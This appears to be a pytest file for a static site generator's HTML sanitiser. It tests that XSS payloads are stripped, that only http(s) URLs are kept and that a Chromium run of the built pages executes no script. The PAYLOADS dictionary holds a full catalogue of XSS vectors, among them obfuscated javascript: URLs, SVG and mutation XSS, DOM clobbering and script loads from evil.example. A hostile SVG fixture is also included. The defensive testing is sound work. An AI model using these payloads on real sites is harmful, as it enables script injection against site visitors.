"""Security: no script from a source reaches the built site.

The allow-list sanitiser is pinned on every payload family of issue 6, then the whole
hostile build is scanned (tests/html_safety.py), and a real Chromium opens the payload
pages and searches for them: no dialog, no `window.__zkxss`, no request to the payloads'
hosts."""

from __future__ import annotations

import re

import markdown
import pytest

from conftest import build_site, serve_dir
from generator.pages.sanitize import inert_meta_text, safe_url, sanitize_html, unsafe_markup
from hostile_corpus import MARK
from html_safety import unsafe_findings
from test_images import private_hosts_config

X = f"alert('{MARK}')"
PAYLOADS = {
    "script": f"<script>{X}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "handlers": f'<img src=x onerror="{X}"><body onload={X}><p onclick="{X}">p</p>'
                f'<details open ontoggle={X}>d</details>',
    "javascript-url": f'<a href="javascript:{X}">a</a><a href="JaVaScRiPt:{X}">b</a>'
                      f'<a href="&#106;avascript:{X}">c</a><a href=" &#x09;javascript:{X}">d</a>',
    "data-url": '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>'
                '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "frames": f'<iframe src="javascript:{X}"></iframe><iframe srcdoc="<script>{X}</script>"></iframe>'
              f'<frameset><frame src="x"></frameset>',
    "plugins": f'<object data="javascript:{X}"></object><embed src="x.swf"><applet code=x></applet>',
    "form": f'<form action="javascript:{X}"><input onfocus="{X}" autofocus>'
            f'<button formaction="javascript:{X}">b</button></form>',
    "svg": f'<svg onload="{X}"><script>{X}</script><a xlink:href="javascript:{X}"><text>t</text></a>'
           f'<animate onbegin="{X}"/><set attributeName="onmouseover" to="{X}"/></svg>',
    "math": f"<math><mtext><script>{X}</script></mtext></math>",
    "meta-base-style": f'<meta http-equiv="refresh" content="0;url=javascript:{X}">'
                       f'<base href="javascript:{X}//"><style>*{{background:url("javascript:{X}")}}</style>'
                       f'<p style="background:url(javascript:{X})">s</p>',
    "markdown-links": f"[a](javascript:{X}) ![b](data:image/svg+xml;base64,PHN2Zz4=) <javascript:{X}>",
    "attr-list": f'paragraph\n{{: onclick="{X}" }}\n\n![i](https://x.example/i.png){{: onerror="{X}" }}',
    "mutation-xss": f'<noscript><p title="</noscript><img src=x onerror={X}>">',
    "comment-break": f"<!--><img src=x onerror={X}>-->",
    "dom-clobbering": '<div id="__config">{"search": "https://evil.example/worker.js"}</div>'
                      '<form name="getElementById"><img name="__search" id="__search"></form>',
}
EXTENSIONS = ["attr_list", "footnotes", "admonition", "tables", "md_in_html", "toc"]


def render(text: str) -> str:
    return markdown.Markdown(extensions=EXTENSIONS, extension_configs={"toc": {"permalink": True}}).convert(text)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_sanitiser_removes_every_payload(name):
    for html in (PAYLOADS[name], render(PAYLOADS[name])):
        clean = sanitize_html(html)
        assert unsafe_findings(clean) == [], f"{name}: {clean}"
        assert "<script" not in clean.lower() and 'href="javascript' not in clean.lower()
        assert 'id="__' not in clean and "name=" not in clean


def test_sanitiser_keeps_what_our_markdown_produces():
    page = render("## 标题 { #p1 }\n\n段落[^1]和[链接](https://example.com/a?b=1)与[锚点](#p1)\n{: #p2 .zk-caption }\n\n"
                  "![图](https://example.com/i.png){: #p3 loading=lazy referrerpolicy=no-referrer }\n\n"
                  '!!! example "案例"\n\n    正文\n\n| 甲 | 乙 |\n|:--|--:|\n| 1 | 2 |\n\n> 引文\n\n- 一\n- 二\n\n[^1]: 注释\n')
    clean = sanitize_html(page)
    for kept in ('<h2 id="p1">', '<p class="zk-caption" id="p2">', 'href="https://example.com/a?b=1"',
                 'href="#p1"', 'src="https://example.com/i.png"', 'loading="lazy"',
                 'referrerpolicy="no-referrer"', 'class="admonition example"', 'class="admonition-title"',
                 'style="text-align:left"', "<blockquote>", "<li>一</li>", 'class="footnote-ref"',
                 'id="fn:1"', "<table>", 'class="headerlink"'):
        assert kept in clean, f"{kept} lost:\n{clean}"


@pytest.mark.parametrize("text, inert", [
    ("<script>alert(1)</script>", "＜script＞alert(1)＜/script＞"),
    ("&lt;/title&gt;", "＆lt;/title＆gt;"),
    ("&#60;b&#x3e;", "＆#60;b＆#x3e;"),
    ("AT&T 与 P&G", "AT&T 与 P&G"),
    ("双十一：“狂欢”", "双十一：“狂欢”"),
])
def test_front_matter_text_is_made_inert(text, inert):
    assert inert_meta_text(text) == inert


@pytest.mark.parametrize("url, kept", [
    ("https://example.com/a?b=1#c", True), ("http://example.com", True),
    ("javascript:alert(1)", False), (" JavaScript:alert(1)", False), ("data:text/html,x", False),
    ("//evil.example/x", False), ("https://x.example/\"onmouseover=alert(1)", False), ("mailto:a@b.c", False),
])
def test_only_http_urls_are_kept_from_front_matter(url, kept):
    assert safe_url(url) == (url if kept else "")


def site_pages(hostile_build):
    return sorted(hostile_build.site.site_dir.rglob("*.html"))


def test_no_page_of_the_built_site_carries_source_script(hostile_build):
    site_dir = hostile_build.site.site_dir
    pages = site_pages(hostile_build)
    assert len(pages) > 30
    problems = {p.relative_to(site_dir).as_posix(): unsafe_findings(p.read_bytes(), site_dir) for p in pages}
    assert {k: v for k, v in problems.items() if v} == {}


def test_titles_from_sources_cannot_close_the_title_element(hostile_build):
    for page in site_pages(hostile_build):
        html = page.read_text(encoding="utf-8")
        for title in re.findall(r"<title>(.*?)</title>", html, re.S):
            assert "<" not in title and "ZKXSS')</" not in title, f"{page}: {title}"


def test_raw_copies_are_published_as_plain_text_only(hostile_build):
    raw = hostile_build.site.site_dir / "raw"
    assert raw.is_dir() and all(p.suffix == ".txt" for p in raw.rglob("*") if p.is_file())


XSS_SOURCES = ("xss/script.html", "xss/handlers.html", "xss/urls.html", "xss/embeds.html", "xss/svg.html",
               "xss/raw-html.md", "xss/front-matter.md", "xss/title-entities.md", "xss/plain-text.txt",
               "names/<img src=x onerror=alert('ZKXSS')>.txt")


@pytest.mark.browser
def test_payload_pages_run_no_script_in_chromium(hostile_build, page):
    server, base = serve_dir(hostile_build.site.site_dir)
    dialogs, requests = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))
    urls = {d["source"]: d["url"] for d in hostile_build.site.report["documents"]}
    try:
        for source in XSS_SOURCES:
            page.goto(base + urls[source], wait_until="load")
            page.wait_for_timeout(150)
            assert page.evaluate("typeof window.__zkxss") == "undefined", source
        page.goto(base, wait_until="load")
        for query in ("onerror", "script", "ZKXSS"):
            page.locator("input.md-search__input").fill(query)
            page.wait_for_selector(".md-search-result__item", timeout=10_000)
            page.wait_for_timeout(300)
            assert page.evaluate("typeof window.__zkxss") == "undefined", query
    finally:
        server.shutdown()
    assert dialogs == []
    outside = [u for u in requests if not u.startswith(base) and not u.startswith("data:")]
    # script, frame and worker payloads point at evil.example; plain http(s) images are allowed
    assert not any("evil.example" in u for u in outside), outside


def test_the_sanitiser_names_what_it_removes():
    html = render(PAYLOADS["handlers"] + PAYLOADS["javascript-url"] + PAYLOADS["script"])
    assert {"onerror", "onclick", "javascript", "script"} <= set(unsafe_markup(html))
    assert unsafe_markup(render("普通段落：javascript: 与 onload= 只是文字，&lt;script&gt; 也是。")) == []


def test_the_writer_lets_no_source_markup_through(hostile_build):
    """The first wall (escaping in structure and write) holds: the sanitiser, the second
    wall, found nothing to remove in any article of the hostile build."""
    assert "unsafe HTML removed by the sanitiser" not in hostile_build.site.output


def test_mirrored_svg_with_script_is_not_published(tmp_path):
    images = tmp_path / "remote"
    images.mkdir()
    (images / "good.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>')
    (images / "evil.svg").write_bytes(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'ZKXSS\')">'
                                      b"<script>window.__zkxss=1</script></svg>")
    server, base = serve_dir(images)
    try:
        sources = tmp_path / "sources"
        sources.mkdir()
        (sources / "images.html").write_text(
            f'<h1>矢量图片镜像</h1><p>正文一段，说明两张图片。{"内容" * 20}</p>'
            f'<p><img src="{base}good.svg" alt="好图"></p><p><img src="{base}evil.svg" alt="坏图"></p>',
            encoding="utf-8")
        (tmp_path / "build").mkdir()
        built = build_site(tmp_path / "build", sources, "--images", "mirror",
                           *private_hosts_config(tmp_path))   # the stand-in is on 127.0.0.1
    finally:
        server.shutdown()
    published = [p.read_bytes() for p in built.site_dir.rglob("*.svg") if "assets" not in p.parts]
    assert any(b"<rect" in data for data in published), built.output
    assert not any(b"ZKXSS" in data or b"__zkxss" in data for data in published)
    (doc,) = built.report["documents"]   # refused at download (svg_safety.py), with the reason
    assert any(w.startswith("image-download:") and "evil.svg: SVG refused: onload, script" in w
               for w in doc["warnings"]), doc["warnings"]


@pytest.mark.parametrize("url, label", [
    ("https://baike.baidu.hk/item/%E6%B2%B3%E5%8C%97%E9%9B%84%E5%AE%89/63950501", "baike.baidu.hk/item/河北雄安/63950501"),
    ("https://hk.finance.yahoo.com/news/%E6%97%A5%E6%9C%AC.html?guccounter=1", "hk.finance.yahoo.com/news/日本.html"),
    ("https://example.com/a%20b", "https://example.com/a%20b"),        # a space: shown as it is
    ("https://example.com/%FF%FE", "https://example.com/%FF%FE"),      # not UTF-8
    ("https://example.com/%3Cscript%3E", "https://example.com/%3Cscript%3E"),
])
def test_an_original_links_text_is_its_readable_address(url, label):
    from generator.pages.sanitize import readable_url
    assert readable_url(url) == label
